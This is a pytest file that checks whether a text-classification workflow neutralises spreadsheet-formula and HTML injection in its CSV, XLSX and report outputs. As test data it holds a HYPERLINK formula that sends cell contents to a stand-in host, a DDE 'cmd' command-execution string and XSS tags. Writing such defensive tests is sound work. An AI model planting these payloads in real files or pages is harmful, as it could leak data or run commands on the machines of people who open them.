"""A run whose corpus carries formula and HTML payloads: nothing the run writes for a person to
open holds a live formula or a raw tag, and the sheets read back give the exact texts.

Through snakemake on the tiny workflow (its prompted coder only, classifying a small corpus):
corpus texts, ids and stratum values begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return, or hold ``<script>`` and ``<img onerror>`` tags. Afterwards every CSV under results/
(the replication package's included) is scanned cell by cell, every XLSX for formula cells,
the HTML report for raw tags; the coding sheets, the review queue and the error sheet are
read back (and two of them coded and imported by a second run) with the exact texts.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
import yaml

from tests.conftest import copy_workflow, snakemake
from textgauge.data.sheets import FORMULA_STARTS, read_csv, write_csv, write_input_csv

HYPERLINK = '=HYPERLINK("http://x/?q="&A1,"click")'
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
#: text payloads, each put in front of a corpus text (tab- and CR-led ones lose that lead to
#: ingest's stripping of surrounding whitespace: what is left still starts a formula)
TEXT_PAYLOADS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=2+2", SCRIPT, IMG,
                 "'already quoted", "=cmd|' /C calc'!A0"]
#: ids that start formulas (stripped at ingest like any id: written here as kept)
ID_PAYLOADS = [HYPERLINK, "+7", "-3", "@id", "=1+1", IMG, "-2+3"]
#: stratum values (never stripped): every party and one period and chamber
PARTY = {"Green": HYPERLINK, "Conservative": "+1+1", "Liberal": SCRIPT, "Progressive": "\t-2+3"}
PERIOD = {"2020-2024": "@SUM(A1)"}
CHAMBER = {"upper": "\rupper"}
N_CORPUS = 80


def _payload_corpus(wd):
    """80 texts of the example (none of its labelled pool), with payloads; the simulated
    truth file with the same ids. Both are input files, written plainly as a user's are."""
    ex = wd / "resources/example"
    corpus = pd.read_csv(ex / "corpus.csv", dtype=str, keep_default_na=False)
    truth = pd.read_csv(ex / "truth.csv", dtype=str, keep_default_na=False)
    pool = set(pd.read_csv(ex / "labelled_pool.csv", dtype=str)["id"])
    corpus = corpus.loc[~corpus["id"].isin(pool)].head(N_CORPUS).reset_index(drop=True)
    new_ids = dict(zip(corpus["id"].iloc[1::11], ID_PAYLOADS, strict=False))
    for k, payload in enumerate(TEXT_PAYLOADS * 3):
        i = 2 + 2 * k
        sep = " " if k % 2 else ""
        corpus.loc[i, "text"] = payload + sep + corpus.loc[i, "text"]
    corpus["party"] = corpus["party"].replace(PARTY)
    corpus["period"] = corpus["period"].replace(PERIOD)
    corpus["chamber"] = corpus["chamber"].replace(CHAMBER)
    truth = truth.loc[truth["id"].isin(set(corpus["id"]))].copy()
    truth["id"] = truth["id"].replace(new_ids)
    corpus["id"] = corpus["id"].replace(new_ids)
    # the input writer: a lone CR in a cell must be quoted for the file to parse at all
    write_input_csv(corpus, wd / "payload_corpus.csv")
    write_input_csv(truth, wd / "payload_truth.csv")
    return corpus


def _config(wd, **audits):
    cfg = yaml.safe_load((wd / "config.yaml").read_text())
    test = yaml.safe_load((wd / "config/test.yaml").read_text())
    for key, value in test.items():
        if isinstance(value, dict) and isinstance(cfg.get(key), dict):
            cfg[key] = {**cfg[key], **value}
        else:
            cfg[key] = value
    zeroshot = {**cfg["models"]["zeroshot"], "scope": "corpus"}
    cfg["models"] = {"zeroshot": zeroshot}  # no training: a quicker DAG
    cfg["corpus"]["path"] = "payload_corpus.csv"
    cfg["gold"]["simulate"]["truth"] = "payload_truth.csv"
    cfg["audits"] = {**cfg["audits"], "positional_orders": [], **audits}
    (wd / "config.yaml").write_text(yaml.safe_dump(cfg, sort_keys=False))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _live_csv_cells(results):
    """(file, row, cell) of every CSV cell a spreadsheet would read as a formula."""
    live = []
    for path in sorted(results.rglob("*.csv")):
        text = path.read_text(encoding="utf-8")
        for r, row in enumerate(csv.reader(io.StringIO(text, newline=""))):
            live += [(str(path.relative_to(results)), r, cell) for cell in row
                     if cell and cell[0] in FORMULA_STARTS and not _is_number(cell)]
    return live


def _formula_xlsx_cells(results):
    paths = sorted(results.rglob("*.xlsx"))
    if not paths:
        return []
    openpyxl = pytest.importorskip("openpyxl")
    found = []
    for path in paths:
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            found += [(path.name, sheet.title, c.coordinate, c.value)
                      for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return found


@pytest.mark.slow
def test_formula_and_html_payloads_stay_dead_and_texts_come_back_exact(tmp_path):
    wd = copy_workflow(tmp_path / "wf")
    raw_corpus = _payload_corpus(wd)
    _config(wd)
    snakemake(wd, "results/report/index.html", "results/replication.tar.gz")
    results = wd / "results"

    # ingest kept every row and every payload id (stripped like any id)
    corpus = pd.read_parquet(results / "corpus/corpus.parquet")
    assert len(corpus) == N_CORPUS
    assert set(ID_PAYLOADS) <= set(corpus["id"])
    assert set(corpus["party"]) == set(PARTY.values())
    texts = dict(zip(corpus["id"], corpus["text"], strict=True))

    # 1. no CSV cell anywhere under results/ starts a formula (numbers are numbers)
    csvs = sorted(results.rglob("*.csv"))
    names = {str(p.relative_to(results)) for p in csvs}
    for expected in ("gold/sheets/coder_a.csv", "gold/adjudication_sheet.csv",
                     "audits/zeroshot/review_queue.csv", "audits/zeroshot/error_sheet.csv",
                     "validation/zeroshot/per_stratum.csv", "revalidation/sheets/coder_a.csv",
                     "replication/gold/sample.csv", "replication/predictions/zeroshot.gold.csv"):
        assert expected in names, sorted(names)
    assert _live_csv_cells(results) == []
    # 2. and no XLSX cell is a formula
    assert _formula_xlsx_cells(results) == []

    # 3. the HTML report shows the payloads as text, never as tags
    html = (results / "report/index.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the Liberal stratum, escaped

    # 4. the sheets read back give the exact texts, ids and strata
    sample = pd.read_parquet(results / "gold/sample.parquet")
    for coder in ("coder_a", "coder_b"):
        sheet = read_csv(results / f"gold/sheets/{coder}.csv", dtype=str,
                         keep_default_na=False)
        assert sorted(sheet["id"]) == sorted(sample["id"])
        assert all(texts[i] == t for i, t in zip(sheet["id"], sheet["text"], strict=True))
    led = [t for t in sample["text"] if t[0] in FORMULA_STARTS or t.startswith("<")]
    assert len(led) >= 3, "the gold sample should hold payload texts"
    assert any(i in set(sample["id"]) for i in ID_PAYLOADS)
    queue = read_csv(results / "audits/zeroshot/review_queue.csv", dtype=str,
                     keep_default_na=False)
    assert len(queue) and all(texts[i] == t for i, t in zip(queue["id"], queue["text"],
                                                             strict=True))
    assert set(queue["party"]) <= set(PARTY.values())
    table = read_csv(results / "validation/zeroshot/per_stratum.csv", keep_default_na=False)
    assert set(PARTY.values()) <= set(table["stratum"])
    assert CHAMBER["upper"] in set(table["stratum"])
    errors = read_csv(results / "audits/zeroshot/error_sheet.csv", dtype={"id": str},
                      keep_default_na=False)
    assert all(texts[i] == t for i, t in zip(errors["id"], errors["text"], strict=True))
    package_sample = read_csv(results / "replication/gold/sample.csv", dtype={"id": str},
                              keep_default_na=False)
    assert package_sample["text"].tolist() == sample["text"].tolist()
    assert package_sample["party"].tolist() == sample["party"].tolist()
    assert raw_corpus["party"].isin(set(PARTY.values())).all()

    # 5. a reviewer codes the review queue and the error sheet in a spreadsheet program
    # (which keeps the escaping): a second run imports both by these ids
    queue["human_label"] = ""
    queue.loc[queue.index[:3], "human_label"] = "economic"
    write_csv(queue, wd / "coded_queue.csv")
    errors["category"] = "ambiguity"
    write_csv(errors, wd / "coded_errors.csv")
    _config(wd, review_codes={"zeroshot": "coded_queue.csv"},
            error_codes={"zeroshot": "coded_errors.csv"})
    snakemake(wd, "results/audits/zeroshot/review.json",
              "results/audits/zeroshot/error_patterns.json")
    review = json.loads((results / "audits/zeroshot/review.json").read_text())
    assert review["n_reviewed"] == 3
    final = pd.read_parquet(results / "audits/zeroshot/final_labels.parquet")
    human = final.loc[final["human_source"] == "review", "id"]
    assert sorted(human) == sorted(queue["id"].iloc[:3])
    patterns = json.loads((results / "audits/zeroshot/error_patterns.json").read_text())
    assert patterns["n_coded"] == len(errors)
    assert _live_csv_cells(results) == []
